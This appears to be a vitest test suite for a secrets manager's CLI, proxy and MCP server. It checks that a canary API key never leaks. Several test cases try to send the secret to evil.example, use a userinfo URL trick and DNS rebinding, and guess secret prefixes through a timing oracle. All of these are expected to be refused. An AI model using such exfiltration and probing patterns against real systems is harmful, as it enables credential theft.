// The leak suite: a canary secret is stored, then every command, the proxy and the MCP server are driven through
// success, refusal and failure paths. At the end every stdout, stderr, response, audit line and file under the
// machine's directory is searched for the canary in every encoding: zero hits. Over 400 lines: one scenario on one
// machine, driven end to end, so that the final search covers everything every step printed.
import { rm } from 'node:fs/promises';
import { join } from 'node:path';
import { findLeaks, startUpstream, type Upstream } from '@agentsecrets/testkit';
import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { StdioClientTransport } from '@modelcontextprotocol/sdk/client/stdio.js';
import { request } from 'undici';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { BIN, filesUnder, freshMachine, run, transcript } from './helpers.js';

const CANARY = 'sk_live_LEAK_CANARY_5a6b7c8d9e0f';
const RELEASABLE = 'tool-token-RELEASABLE-31415926';

let upstream: Upstream;
let machine: Awaited<ReturnType<typeof freshMachine>>;
const opts = () => ({ env: machine.env, cwd: machine.project });

beforeAll(async () => {
  upstream = await startUpstream();
  machine = await freshMachine();
});

afterAll(async () => {
  await run(['proxy', 'stop'], opts()).catch(() => undefined);
  await upstream.close();
  await rm(machine.root, { recursive: true, force: true });
});

describe('the CLI, the proxy and the MCP server never hand back a value', () => {
  it('sets up a first run: init, store, allowlist', async () => {
    const init = await run(['init', '--yes'], opts());
    expect(init.stderr).toBe('');
    expect(init.code).toBe(0);
    expect(init.stdout).toContain('project: my-app');
    expect(
      (await run(['secrets', 'set', 'API_KEY', '--stdin'], { ...opts(), input: `${CANARY}\n` })).code,
    ).toBe(0);
    const short = await run(['secrets', 'set', 'SHORT=abc'], opts());
    expect(short.stderr).toContain('argv');
    expect(short.stderr).toContain('cannot be redacted');
    expect(
      (await run(['secrets', 'set', 'TOOL_TOKEN', '--stdin', '--env'], { ...opts(), input: RELEASABLE }))
        .code,
    ).toBe(0);
    expect((await run(['allowlist', 'add', `http://127.0.0.1:${upstream.port}`], opts())).code).toBe(0);
    // Query, body and form injection need the owner to name the fields (headers are allowed by default).
    const places = [
      '--bearer',
      '--header',
      'X-Api-Key',
      '--query',
      'api_key',
      '--body',
      'auth.token',
      '--form',
      'token',
    ];
    expect(
      (await run(['secrets', 'bind', 'API_KEY', `127.0.0.1:${upstream.port}`, ...places], opts())).code,
    ).toBe(0);
    const list = await run(['secrets', 'list', '--json'], opts());
    expect(JSON.parse(list.stdout).map((s: { name: string }) => s.name)).toEqual([
      'API_KEY',
      'SHORT',
      'TOOL_TOKEN',
    ]);
  });

  it('call injects every style and redacts every echo', async () => {
    const styles = [
      ['--bearer', 'API_KEY'],
      ['--header', 'X-Api-Key=API_KEY'],
      ['--query', 'api_key=API_KEY'],
      ['--body-field', 'auth.token=API_KEY', '-X', 'POST', '-d', '{"a":1}'],
      ['--form-field', 'token=API_KEY', '-X', 'POST', '-d', 'a=1'],
    ];
    for (const flags of styles) {
      for (const path of ['/echo', '/gzip', '/echo-headers', '/redirect']) {
        const res = await run(['call', '--url', `${upstream.origin}${path}`, '-i', ...flags], opts());
        expect(res.code, `${flags[0]} ${path}: ${res.stderr}`).toBe(0);
        expect(findLeaks(res.stdout, CANARY), `${flags[0]} ${path}`).toEqual([]);
      }
    }
    const json = await run(
      ['call', '--url', `${upstream.origin}/echo-json`, '--bearer', 'API_KEY', '--json'],
      opts(),
    );
    expect(JSON.parse(json.stdout)).toMatchObject({ status: 200, redacted: true });
  });

  it('call redacts nested encodings, header names and transfer codings', async () => {
    // /echo holds JSON in JSON, twice-URL-encoded, \u-escaped, HTML-escaped, MIME base64 and upper-cased echoes.
    for (const path of ['/echo', '/gzip-gzip', '/gzip-chunked', '/echo-header-name', '/drip']) {
      const res = await run(
        ['call', '--url', `${upstream.origin}${path}`, '-i', '--bearer', 'API_KEY'],
        opts(),
      );
      expect(res.code, `${path}: ${res.stderr}`).toBe(0);
      expect(findLeaks(res.stdout, CANARY), path).toEqual([]);
    }
    const named = await run(
      ['call', '--url', `${upstream.origin}/echo-header-name`, '-i', '--bearer', 'API_KEY', '--json'],
      opts(),
    );
    expect(JSON.parse(named.stdout)).toMatchObject({ status: 200, redacted: true });
    const refused = await run(
      ['call', '--url', `${upstream.origin}/unknown-encoding`, '--bearer', 'API_KEY'],
      opts(),
    );
    expect(refused.code).toBe(5);
    expect(refused.stderr).toContain('UPSTREAM_ENCODING_UNSUPPORTED');
  });

  it('call maps refusals and failures to exit codes with one line', async () => {
    const cases: [string[], number, string][] = [
      [['call', '--url', 'https://evil.example/x', '--bearer', 'API_KEY'], 3, 'DOMAIN_NOT_ALLOWED'],
      [['call', '--url', `${upstream.origin}/echo`, '--bearer', 'NOPE_KEY'], 4, 'SECRET_NOT_FOUND'],
      [
        ['call', '--url', `http://127.0.0.1:${upstream.port}@evil.example/`, '--bearer', 'API_KEY'],
        3,
        'USERINFO_REFUSED',
      ],
      [
        ['call', '--url', `${upstream.origin}/reset-before-headers`, '--bearer', 'API_KEY'],
        5,
        'UPSTREAM_RESET',
      ],
      [['call', '--url', `${upstream.origin}/echo`, '--header', 'Bad Name=API_KEY'], 2, 'INVALID_INJECTION'],
      [['call', '--url', `${upstream.origin}/echo`, '--query', 'other=API_KEY'], 3, 'INJECTION_NOT_ALLOWED'],
      [['call', '--bearer', 'API_KEY'], 2, ''],
      [['secrets', 'get', 'API_KEY'], 3, 'REQUEST_REFUSED'],
      [['env', '--only', 'API_KEY', '--', 'node', '-e', '0'], 3, 'NOT_RELEASABLE'],
    ];
    for (const [args, code, errorCode] of cases) {
      const res = await run(args, opts());
      expect(res.code, args.join(' ')).toBe(code);
      if (errorCode) {
        expect(res.stderr.trim().split('\n'), args.join(' ')).toHaveLength(1);
        expect(res.stderr).toContain(errorCode);
      }
    }
    const fail = await run(
      ['call', '--url', `${upstream.origin}/status?code=503`, '--bearer', 'API_KEY', '--fail'],
      opts(),
    );
    expect(fail.code).toBe(5);
  });

  it('env hands only releasable secrets to the child and masks its output', async () => {
    const script =
      'const v = process.env.TOOL_TOKEN; console.log(v); console.error(Buffer.from(v).toString("base64")); console.log(process.env.API_KEY === undefined); process.exit(7)';
    const res = await run(['env', '--', process.execPath, '-e', script], opts());
    expect(res.code).toBe(7);
    expect(res.stdout).toContain('[REDACTED_BY_AGENTSECRETS]');
    expect(res.stdout).toContain('true');
    expect(findLeaks(res.stdout + res.stderr, RELEASABLE)).toEqual([]);
  });

  it('exec speaks the SecretRef exec provider protocol and releases only releasable secrets', async () => {
    const res = await run(['exec'], {
      ...opts(),
      input: JSON.stringify({
        protocolVersion: 1,
        provider: 'agentsecrets',
        ids: ['TOOL_TOKEN', 'API_KEY', 'MISSING'],
      }),
    });
    expect(res.code).toBe(0);
    const out = JSON.parse(res.stdout);
    expect(out.protocolVersion).toBe(1);
    expect(out.values).toEqual({ TOOL_TOKEN: RELEASABLE });
    expect(out.errors.API_KEY.code).toBe('NOT_RELEASABLE');
    expect(out.errors.MISSING.code).toBe('SECRET_NOT_FOUND');
    // The released value is meant for the caller; keep it out of the transcript searched below for other reasons.
    transcript.pop();
    transcript.pop();
  });

  it('the proxy injects, redacts, checks its token and refuses browsers', async () => {
    const start = await run(['proxy', 'start', '--detach', '--port', '0'], opts());
    expect(start.code, start.stderr).toBe(0);
    const status = JSON.parse((await run(['proxy', 'status', '--json'], opts())).stdout);
    expect(status).toMatchObject({ running: true, healthy: true, auth: true });
    const token = (await run(['proxy', 'token'], opts())).stdout.trim();
    const base = status.url as string;
    const send = async (headers: Record<string, string>, path = '/proxy') => {
      const res = await request(`${base}${path}`, { headers });
      const body = await res.body.text();
      transcript.push(body, JSON.stringify(res.headers), JSON.stringify(res.trailers));
      return { status: res.statusCode, headers: res.headers, trailers: res.trailers, body };
    };
    const ok = await send({
      'x-as-session-token': token,
      'x-as-target-url': `${upstream.origin}/echo`,
      'x-as-inject-bearer': 'API_KEY',
      'x-as-agent-id': 'leak-suite',
    });
    expect(ok.status).toBe(200);
    expect(ok.body).toContain('[REDACTED_BY_AGENTSECRETS]');
    expect(ok.headers['x-as-request-id']).toMatch(/^req_/);
    expect(ok.trailers['x-as-redacted']).toBe('true');
    // A caller claiming to be the owner's CLI.
    const claiming = await send({
      'x-as-session-token': token,
      'x-as-target-url': `${upstream.origin}/echo`,
      'x-as-inject-bearer': 'API_KEY',
      'x-as-transport': 'cli',
      'x-as-agent-id': 'owner',
    });
    expect(claiming.status).toBe(200);
    const sse = await send({
      'x-as-session-token': token,
      'x-as-target-url': `${upstream.origin}/sse`,
      'x-as-inject-query-api_key': 'API_KEY',
    });
    expect(sse.body).toContain('event: bye');
    expect(
      (await send({ 'x-as-target-url': `${upstream.origin}/echo`, 'x-as-inject-bearer': 'API_KEY' })).status,
    ).toBe(401);
    expect(
      (await send({ 'x-as-session-token': 'wrong', 'x-as-target-url': `${upstream.origin}/echo` })).status,
    ).toBe(401);
    const browser = await send({
      'x-as-session-token': token,
      origin: 'https://evil.example',
      'x-as-target-url': `${upstream.origin}/echo`,
    });
    expect(browser.status).toBe(403);
    expect(JSON.parse(browser.body).error.code).toBe('REQUEST_REFUSED');
    const rebinding = await send({
      host: `rebind.evil.example:${new URL(base).port}`,
      'x-as-session-token': token,
    });
    expect(rebinding.status).toBe(403);
    const blocked = await send({
      'x-as-session-token': token,
      'x-as-target-url': 'https://evil.example/',
      'x-as-inject-bearer': 'API_KEY',
    });
    expect(blocked.status).toBe(403);
    expect(JSON.parse(blocked.body).error).toMatchObject({ code: 'DOMAIN_NOT_ALLOWED' });
    expect((await send({}, '/health')).body).toBe('{"status":"ok"}');

    // Nested encodings, header names and codings through the proxy.
    for (const path of ['/echo', '/gzip-chunked', '/gzip-gzip', '/echo-header-name']) {
      const res = await send({
        'x-as-session-token': token,
        'x-as-target-url': `${upstream.origin}${path}`,
        'x-as-inject-bearer': 'API_KEY',
      });
      expect(res.status, path).toBe(200);
      expect(findLeaks(res.body + JSON.stringify(res.headers), CANARY), path).toEqual([]);
    }

    // The oracle of the attack review: an echo of `<<` and a guess, then a pause or a dropped connection. What the
    // reader has during the pause, and in all, must be the same for a true prefix of the canary (raw, base64,
    // percent-encoded) and a wrong guess of the same length; nothing is injected.
    const observe = async (guess: string, then: 'end' | 'drop') => {
      const lead = 'x'.repeat(600);
      const target = `${upstream.origin}/echo-then-pause?ms=500&then=${then}&guess=${encodeURIComponent(lead + guess)}`;
      const res = await request(`${base}/proxy`, {
        headers: { 'x-as-session-token': token, 'x-as-target-url': target },
      });
      let received = 0;
      res.body.on('data', (c: Buffer) => {
        received += c.length;
      });
      const ended = new Promise<void>((resolve) => {
        res.body.on('end', resolve);
        res.body.on('error', () => resolve());
      });
      await new Promise((r) => setTimeout(r, 300));
      const duringPause = received;
      await ended;
      return [duringPause, received];
    };
    const b64 = Buffer.from(CANARY).toString('base64');
    const pct = [...Buffer.from(CANARY)].map((b) => `%${b.toString(16).padStart(2, '0')}`).join('');
    for (const [right, wrong] of [
      [CANARY.slice(0, 17), `${CANARY.slice(0, 16)}#`],
      [b64.slice(0, 20), `${b64.slice(0, 19)}#`],
      [pct.slice(0, 30), `${pct.slice(0, 29)}#`],
    ] as const) {
      for (const then of ['end', 'drop'] as const) {
        expect(await observe(right, then), `${right} ${then}`).toEqual(await observe(wrong, then));
      }
    }

    // call goes through the running proxy
    const viaProxy = await run(['call', '--url', `${upstream.origin}/echo`, '--bearer', 'API_KEY'], opts());
    expect(viaProxy.code).toBe(0);
    expect(viaProxy.stdout).toContain('[REDACTED_BY_AGENTSECRETS]');

    const logs = await run(['proxy', 'logs', '--last', '50', '--json'], opts());
    const events = logs.stdout
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l));
    // The proxy records what it knows (the call came through the proxy) and the caller's word as a claim.
    expect(
      events.some(
        (e) =>
          e.transport === 'proxy' &&
          e.agent_id === null &&
          e.claims?.agent_id === 'leak-suite' &&
          e.status === 'OK',
      ),
    ).toBe(true);
    expect(
      events.some((e) => e.transport === 'proxy' && e.claims?.transport === 'cli' && e.status === 'OK'),
    ).toBe(true);
    const spoofed = events.find((e) => e.claims?.agent_id === 'owner');
    expect(spoofed).toMatchObject({
      transport: 'proxy',
      agent_id: null,
      claims: { transport: 'cli', agent_id: 'owner' },
    });
    const table = await run(['proxy', 'logs', '--last', '5'], opts());
    expect(table.stdout.split('\n')[0]).toMatch(
      /^TIME\s+METHOD\s+TARGET\s+SECRET\s+STATUS\s+HTTP\s+DURATION$/,
    );
    expect((await run(['proxy', 'stop'], opts())).code).toBe(0);
    expect(JSON.parse((await run(['proxy', 'status', '--json'], opts())).stdout)).toEqual({ running: false });
  });

  it('the MCP server answers a real client over stdio', async () => {
    const transport = new StdioClientTransport({
      command: process.execPath,
      args: [BIN, 'mcp', 'serve'],
      env: machine.env as Record<string, string>,
      cwd: machine.project,
      stderr: 'pipe',
    });
    const stderr: Buffer[] = [];
    transport.stderr?.on('data', (c: Buffer) => stderr.push(c));
    const client = new Client({ name: 'leak-suite', version: '1.0.0' });
    await client.connect(transport);
    try {
      const tools = await client.listTools();
      expect(tools.tools.map((t) => t.name).sort()).toEqual([
        'api_call',
        'audit_log',
        'list_secrets',
        'status',
      ]);
      for (const tool of tools.tools) {
        expect(tool.outputSchema?.type, tool.name).toBe('object');
        expect(tool.annotations?.readOnlyHint, tool.name).toBe(tool.name !== 'api_call');
      }
      const listed = await client.callTool({ name: 'list_secrets', arguments: {} });
      expect(JSON.stringify(listed)).toContain('API_KEY');
      const call = await client.callTool({
        name: 'api_call',
        arguments: { url: `${upstream.origin}/echo`, injections: { bearer: 'API_KEY' } },
      });
      expect(call.isError).toBeFalsy();
      expect(call.structuredContent).toMatchObject({ status: 200, redacted: true });
      const nested: unknown[] = [];
      for (const path of ['/gzip-gzip', '/gzip-chunked', '/echo-header-name']) {
        const res = await client.callTool({
          name: 'api_call',
          arguments: { url: `${upstream.origin}${path}`, injections: { bearer: 'API_KEY' } },
        });
        expect(res.isError, path).toBeFalsy();
        expect(res.structuredContent, path).toMatchObject({ status: 200, redacted: true });
        nested.push(res);
      }
      transcript.push(JSON.stringify(nested));
      const refused = await client.callTool({
        name: 'api_call',
        arguments: { url: 'https://evil.example/', injections: { bearer: 'API_KEY' } },
      });
      expect(refused.isError).toBe(true);
      expect(JSON.stringify(refused.content)).toContain('DOMAIN_NOT_ALLOWED');
      const failed = await client.callTool({
        name: 'api_call',
        arguments: { url: `${upstream.origin}/reset`, injections: { 'query:api_key': 'API_KEY' } },
      });
      expect(failed.isError).toBe(true);
      const audit = await client.callTool({ name: 'audit_log', arguments: { last: 5, secret: 'API_KEY' } });
      expect((audit.structuredContent as { events: unknown[] }).events.length).toBeGreaterThan(0);
      const status = await client.callTool({ name: 'status', arguments: {} });
      expect(status.structuredContent).toMatchObject({ backend: 'file', project: 'my-app' });
      transcript.push(JSON.stringify([tools, listed, call, refused, failed, audit, status]));
    } finally {
      await client.close();
    }
    transcript.push(Buffer.concat(stderr).toString('utf8'));
  });

  it('the MCP server explains a locked vault instead of dying', async () => {
    const env = { ...machine.env };
    delete env.AGENTSECRETS_PASSPHRASE;
    const transport = new StdioClientTransport({
      command: process.execPath,
      args: [BIN, 'mcp', 'serve'],
      env: env as Record<string, string>,
      cwd: machine.project,
      stderr: 'pipe',
    });
    const client = new Client({ name: 'locked', version: '1.0.0' });
    await client.connect(transport);
    try {
      const res = await client.callTool({ name: 'status', arguments: {} });
      expect(res.isError).toBe(true);
      expect(JSON.stringify(res.content)).toContain('PASSPHRASE_REQUIRED');
      transcript.push(JSON.stringify(res));
    } finally {
      await client.close();
    }
  });

  it('run: the agent holds placeholders, every style is swapped at the proxy, every echo comes back redacted', async () => {
    const base = `http://127.0.0.1:${upstream.port}`;
    const calls: string[] = [];
    for (const path of [
      '/echo',
      '/gzip',
      '/echo-headers',
      '/redirect',
      '/gzip-gzip',
      '/drip',
      '/echo-header-name',
    ]) {
      calls.push(
        `curl -sS -i -H "Authorization: Bearer $API_KEY" ${base}${path}`,
        `curl -sS -i -H "X-Api-Key: $API_KEY" ${base}${path}`,
        `curl -sS -i "${base}${path}?api_key=$API_KEY"`,
        `curl -sS -i -H 'content-type: application/json' -d '{"a":1,"auth":{"token":"'"$API_KEY"'"}}' ${base}${path}`,
        `curl -sS -i -d "a=1&token=$API_KEY" ${base}${path}`,
      );
    }
    // What the agent sees, prints, writes into the project, has in its environment, and what `ps` shows meanwhile.
    const script = `${calls.join('; echo; ')}; echo; env; ps -eo args; curl -sS ${base}/echo > agent-wrote.txt`;
    const res = await run(['run', '--no-sandbox', '--', 'sh', '-c', script], opts());
    expect(res.code, res.stderr).toBe(0);
    expect(res.stdout.split('[REDACTED_BY_AGENTSECRETS]').length).toBeGreaterThan(35);
    expect(res.stdout).toMatch(/^API_KEY=sk_live_[A-Za-z0-9]{99}$/m);
    expect(findLeaks(res.stdout + res.stderr, CANARY)).toEqual([]);
    expect(findLeaks(res.stdout + res.stderr, RELEASABLE)).toEqual([]);
  });

  it('the audit chain verifies, and nothing anywhere holds the canary', async () => {
    const verify = await run(['audit', 'verify'], opts());
    expect(verify.code).toBe(0);
    expect(verify.stdout).toContain('intact');
    for (const text of transcript) expect(findLeaks(text, CANARY)).toEqual([]);
    const files = await filesUnder(machine.root);
    expect(files.map((f) => f.path)).toContain(join(machine.env.AGENTSECRETS_HOME!, 'audit.jsonl'));
    for (const file of files) expect(findLeaks(file.bytes, CANARY), file.path).toEqual([]);
  });
});
